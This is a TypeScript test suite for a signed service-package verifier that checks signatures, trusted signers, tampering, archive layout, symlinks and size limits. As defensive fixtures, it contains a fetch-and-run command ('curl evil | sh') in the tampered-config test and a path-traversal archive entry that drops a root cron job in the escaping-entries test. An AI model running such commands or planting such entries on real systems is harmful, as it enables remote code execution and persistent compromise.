import { X509Certificate } from 'node:crypto';
import { cp, mkdir, mkdtemp, readdir, readFile, rm, symlink, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ArchiveError } from '@openaos/archive';
import { ConfigError } from '@openaos/config';
import { signJws } from '@openaos/pki';
import { buildServicePackage } from './build-service-package.js';
import { hashBuffer } from './hash-stream.js';
import { PackageError } from './package-error.js';
import { extractWithPython, makeArchiveWithPython, writeEntriesWithPython } from './testing/python-archive.js';
import { configYaml, createTestService, createTestSigner, type TestSigner } from './testing/test-service.js';
import type { PackageTrust } from './types.js';
import { verifyServicePackage } from './verify-service-package.js';

let workDir: string;
let signer: TestSigner;
let trust: PackageTrust;
let packagePath: string;
let counter = 0;
const SIGNED_AT = new Date('2026-11-20T10:11:12Z');

beforeAll(async () => {
  workDir = await mkdtemp(join(tmpdir(), 'service-package-verify-'));
  signer = createTestSigner();
  trust = { roots: [new X509Certificate(signer.ca.certificatePem)] };
  const serviceDir = await createTestService(join(workDir, 'service'), { stateRequired: true });
  packagePath = (await buildServicePackage({ serviceDir, credential: signer.credential, signedAt: SIGNED_AT })).path;
});
afterAll(async () => {
  await rm(workDir, { recursive: true, force: true });
});

function folder(): string {
  counter += 1;
  return join(workDir, `case-${counter}`);
}

async function failure(promise: Promise<unknown>): Promise<PackageError> {
  const error = await promise.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(PackageError);
  return error as PackageError;
}

/** Verify, then stream the whole service/ tree (where its entries are checked); the first error is thrown. */
async function verifyAndRead(path: string, options: Parameters<typeof verifyServicePackage>[1]): Promise<string[]> {
  const verified = await verifyServicePackage(path, options);
  try {
    const names: string[] = [];
    for await (const entry of verified.serviceEntries()) {
      names.push(entry.name);
      entry.body?.resume();
    }
    return names;
  } finally {
    await verified.close();
  }
}

/** Unpack the outer archive into a folder as aos-signer's temp folder looked before the final make_archive. */
async function unpackOuter(): Promise<string> {
  const directory = folder();
  await mkdir(directory, { recursive: true });
  extractWithPython(packagePath, directory);
  return directory;
}

/** Sign config.yaml + service.tar.gz of `directory` into package.sign, as aos-signer does. */
async function signFolder(
  directory: string,
  options: { credential?: TestSigner['credential']; includeChain?: boolean } = {},
): Promise<void> {
  const inner = await readFile(join(directory, 'service.tar.gz'));
  const config = await readFile(join(directory, 'config.yaml'));
  const payload = {
    data: [
      { name: 'service.tar.gz', hash: hashBuffer(inner), size: inner.length },
      { name: 'config.yaml', hash: hashBuffer(config), size: config.length },
    ],
  };
  await writeFile(
    join(directory, 'package.sign'),
    signJws(payload, options.credential ?? signer.credential, { includeChain: options.includeChain ?? true }),
  );
}

/** make_archive the folder into a package, exactly like aos-signer's last step. */
function repack(directory: string): string {
  return makeArchiveWithPython(join(`${directory}-out`, 'service'), directory);
}

/** An inner archive made by make_archive from a folder laid out by `prepare`. */
async function makeInner(directory: string, prepare: (innerDir: string) => Promise<void>): Promise<void> {
  const innerDir = `${directory}-inner`;
  await mkdir(join(innerDir, 'service'), { recursive: true });
  await cp(join(directory, 'config.yaml'), join(innerDir, 'config.yaml'));
  await prepare(innerDir);
  const made = makeArchiveWithPython(join(`${directory}-innerout`, 'service'), innerDir);
  await cp(made, join(directory, 'service.tar.gz'));
}

describe('verifyServicePackage', () => {
  it('round-trips: build → verify, with the service/ tree as rootfs entries', async () => {
    const verified = await verifyServicePackage(packagePath, { trust });
    try {
      // The signing time, not the fixed 2000-01-01 of the other entries.
      expect(verified.created).toBe('2026-11-20T10:11:12.000Z');
      expect(verified.config.configuration.cmd).toBe('python3 /app/main.py');
      expect(verified.signer.subject).toEqual({
        commonName: 'Test SP',
        organization: 'example.test',
        organizationalUnit: 'Service Provider',
      });
      expect(verified.files.map((file) => file.name)).toEqual(['service.tar.gz', 'config.yaml']);
      expect(verified.hasDefaultState).toBe(true);
      expect((await verified.readDefaultState())?.toString()).toBe('initial state\n');
      const entries: string[] = [];
      let data = Buffer.alloc(0);
      for await (const entry of verified.serviceEntries()) {
        entries.push(`${entry.type}:${entry.name}:${entry.mode.toString(8)}`);
        if (entry.name === 'app/main.py' && entry.body) {
          for await (const chunk of entry.body) data = Buffer.concat([data, chunk as Buffer]);
        } else {
          entry.body?.resume();
        }
      }
      expect(entries).toEqual([
        'directory:app:755',
        'directory:app/lib:755',
        'file:app/lib/data.bin:644',
        'file:app/main.py:644',
        'file:app/run.sh:755',
      ]);
      expect(data.toString()).toBe('print("hello from OpenAos")\n');
    } finally {
      await verified.close();
    }
  });

  it('removes its temp files on close', async () => {
    const tempDirectory = folder();
    await mkdir(tempDirectory);
    const verified = await verifyServicePackage(packagePath, { trust, tempDirectory });
    expect(await readdir(tempDirectory)).toHaveLength(1);
    await verified.close();
    expect(await readdir(tempDirectory)).toEqual([]);
  });

  it('accepts a package made like the real aos-signer (make_archive, no x5c) when its certificate is trusted', async () => {
    const directory = await unpackOuter();
    await makeInner(directory, async (innerDir) => {
      await mkdir(join(innerDir, 'service/cpu_load'));
      await writeFile(join(innerDir, 'service/cpu_load/cpu_load.py'), 'print(1)\n');
    });
    await signFolder(directory, { includeChain: false });
    // make_archive keeps the files' mtimes: package.sign's is when aos-signer wrote it.
    await utimes(join(directory, 'package.sign'), SIGNED_AT, new Date('2023-11-24T09:30:15Z'));
    const path = repack(directory);

    const verified = await verifyServicePackage(path, { trust: { certificates: [signer.credential.certificate] } });
    expect(verified.created).toBe('2023-11-24T09:30:15.000Z');
    const names: string[] = [];
    for await (const entry of verified.serviceEntries()) {
      names.push(entry.name);
      entry.body?.resume();
    }
    expect(names).toEqual(['cpu_load', 'cpu_load/cpu_load.py']);
    expect(verified.hasDefaultState).toBe(false);
    await verified.close();

    // Without the certificate there is nothing to check the signature with.
    const error = await failure(verifyServicePackage(path, { trust }));
    expect(error.code).toBe('untrusted-signer');
  });

  it('refuses absolute symlinks in service/ unless asked to allow them (aos-signer copies them)', async () => {
    const directory = await unpackOuter();
    await makeInner(directory, async (innerDir) => {
      await mkdir(join(innerDir, 'service/etc'));
      await symlink('/usr/share/zoneinfo/UTC', join(innerDir, 'service/etc/localtime'));
    });
    await signFolder(directory);
    const path = repack(directory);
    const refused = await failure(verifyAndRead(path, { trust }));
    expect(refused.code).toBe('unsafe-archive');
    expect(refused.entry).toBe('service/etc/localtime');

    const verified = await verifyServicePackage(path, { trust, absoluteSymlinks: 'allow' });
    const links: string[] = [];
    for await (const entry of verified.serviceEntries()) {
      if (entry.type === 'symlink') links.push(`${entry.name} -> ${entry.linkname ?? ''}`);
      entry.body?.resume();
    }
    await verified.close();
    expect(links).toEqual(['etc/localtime -> /usr/share/zoneinfo/UTC']);
  });

  it('refuses a signer from another CA', async () => {
    const other = createTestSigner('Other');
    const directory = await unpackOuter();
    await signFolder(directory, { credential: other.credential });
    const error = await failure(verifyServicePackage(repack(directory), { trust }));
    expect(error.code).toBe('untrusted-signer');
  });

  it('refuses a tampered inner archive, config or signature with precise codes', async () => {
    const innerTampered = await unpackOuter();
    const inner = await readFile(join(innerTampered, 'service.tar.gz'));
    inner[inner.length - 20] = (inner[inner.length - 20] ?? 0) ^ 0xff;
    await writeFile(join(innerTampered, 'service.tar.gz'), inner);
    const innerError = await failure(verifyServicePackage(repack(innerTampered), { trust }));
    expect(innerError.code).toBe('hash-mismatch');
    expect(innerError.entry).toBe('service.tar.gz');

    const configTampered = await unpackOuter();
    await writeFile(
      join(configTampered, 'config.yaml'),
      configYaml().replace('python3 /app/main.py', 'sh -c "curl evil | sh"'),
    );
    const configError = await failure(verifyServicePackage(repack(configTampered), { trust }));
    expect(configError.code).toBe('hash-mismatch');
    expect(configError.entry).toBe('config.yaml');

    const signatureTampered = await unpackOuter();
    const token = await readFile(join(signatureTampered, 'package.sign'), 'utf8');
    const [header, , signature] = token.split('.');
    const forgedPayload = Buffer.from(JSON.stringify({ data: [] })).toString('base64url');
    await writeFile(join(signatureTampered, 'package.sign'), `${header}.${forgedPayload}.${signature}`);
    expect((await failure(verifyServicePackage(repack(signatureTampered), { trust }))).code).toBe('bad-signature');

    const garbage = await unpackOuter();
    await writeFile(join(garbage, 'package.sign'), 'not a token');
    expect((await failure(verifyServicePackage(repack(garbage), { trust }))).code).toBe('bad-signature');
  });

  it('refuses an inner config.yaml that differs from the signed one', async () => {
    const directory = await unpackOuter();
    await makeInner(directory, async (innerDir) => {
      await writeFile(join(innerDir, 'config.yaml'), configYaml().replace('workingDir: /', 'workingDir: /tmp'));
    });
    await signFolder(directory);
    const error = await failure(verifyServicePackage(repack(directory), { trust }));
    expect(error.code).toBe('hash-mismatch');
    expect(error.entry).toBe('service.tar.gz/config.yaml');
  });

  it('refuses extra entries in either archive, naming them', async () => {
    const outerExtra = await unpackOuter();
    await writeFile(join(outerExtra, 'run-me.sh'), 'echo');
    const outerError = await failure(verifyServicePackage(repack(outerExtra), { trust }));
    expect(outerError.code).toBe('bad-layout');
    expect(outerError.entry).toBe('run-me.sh');

    const innerExtra = await unpackOuter();
    await makeInner(innerExtra, async (innerDir) => {
      await writeFile(join(innerDir, 'extra.txt'), 'x');
    });
    await signFolder(innerExtra);
    const innerError = await failure(verifyServicePackage(repack(innerExtra), { trust }));
    expect(innerError.code).toBe('bad-layout');
    expect(innerError.entry).toBe('extra.txt');
  });

  it('refuses escaping entries in a correctly signed inner archive, naming the entry', async () => {
    const directory = await unpackOuter();
    writeEntriesWithPython(join(directory, 'service.tar.gz'), [
      { name: './', dir: true },
      { name: './config.yaml', data: await readFile(join(directory, 'config.yaml'), 'utf8') },
      { name: './service/', dir: true },
      { name: './service/../../etc/cron.d/evil', data: '* * * * * root sh' },
    ]);
    await signFolder(directory);
    const error = await failure(verifyAndRead(repack(directory), { trust }));
    expect(error.code).toBe('unsafe-archive');
    expect(error.entry).toBe('./service/../../etc/cron.d/evil');
    expect((error.cause as ArchiveError).code).toBe('entry-escapes');
  });

  it('applies limits to both archives', async () => {
    const outerTooMany = await failure(verifyServicePackage(packagePath, { trust, limits: { maxEntries: 3 } }));
    expect(outerTooMany.code).toBe('unsafe-archive');
    expect((outerTooMany.cause as ArchiveError).code).toBe('too-many-entries');

    const tooMany = await failure(verifyAndRead(packagePath, { trust, limits: { maxEntries: 6 } }));
    expect(tooMany.code).toBe('unsafe-archive');
    expect((tooMany.cause as ArchiveError).code).toBe('too-many-entries');

    const tooLarge = await failure(verifyAndRead(packagePath, { trust, limits: { maxEntryBytes: 100_000 } }));
    expect(tooLarge.code).toBe('unsafe-archive');
    expect(tooLarge.entry).toBe('service/app/lib/data.bin');
    expect((tooLarge.cause as ArchiveError).code).toBe('entry-too-large');
  });

  it('refuses unexpected top-level entries after service/ while streaming the tree', async () => {
    const directory = await unpackOuter();
    await makeInner(directory, async (innerDir) => {
      await writeFile(join(innerDir, 'zz-extra.sh'), 'echo');
    });
    await signFolder(directory);
    const error = await failure(verifyAndRead(repack(directory), { trust }));
    expect(error.code).toBe('bad-layout');
    expect(error.entry).toBe('zz-extra.sh');
  });

  it('wraps an invalid (but signed) config as invalid-config', async () => {
    const directory = await unpackOuter();
    await writeFile(join(directory, 'config.yaml'), 'build: [not, a, map]\n');
    await makeInner(directory, async () => {});
    await signFolder(directory);
    const error = await failure(verifyServicePackage(repack(directory), { trust }));
    expect(error.code).toBe('invalid-config');
    expect(error.cause).toBeInstanceOf(ConfigError);
  });

  it('reports a missing file as not-found', async () => {
    expect((await failure(verifyServicePackage(join(workDir, 'nope.tar.gz'), { trust }))).code).toBe('not-found');
  });
});
